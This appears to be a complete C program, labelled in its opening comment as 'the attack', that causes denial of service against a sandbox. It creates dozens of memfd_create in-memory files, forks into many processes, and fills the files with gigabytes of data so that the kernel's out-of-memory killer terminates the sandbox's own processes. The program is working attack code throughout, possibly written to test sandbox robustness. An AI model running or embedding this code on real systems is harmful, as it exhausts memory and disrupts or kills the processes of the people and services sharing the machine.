// The attack: fill files in memory, which belong to no process, so that the kernel kills a process of the sandbox.
#define _GNU_SOURCE
#include <signal.h>
#include <sys/mman.h>
#include <unistd.h>

static char block[1 << 20];

int main(void) {
    int files[40];
    signal(SIGXFSZ, SIG_IGN);
    read(0, block, sizeof block);
    for (int i = 0; i < 40; i++) files[i] = memfd_create("x", 0);
    for (int i = 0; i < 5; i++) fork();
    for (int i = 0; i < 40; i++)
        for (int j = 0; j < 15; j++) write(files[i], block, sizeof block);
    pause();
}
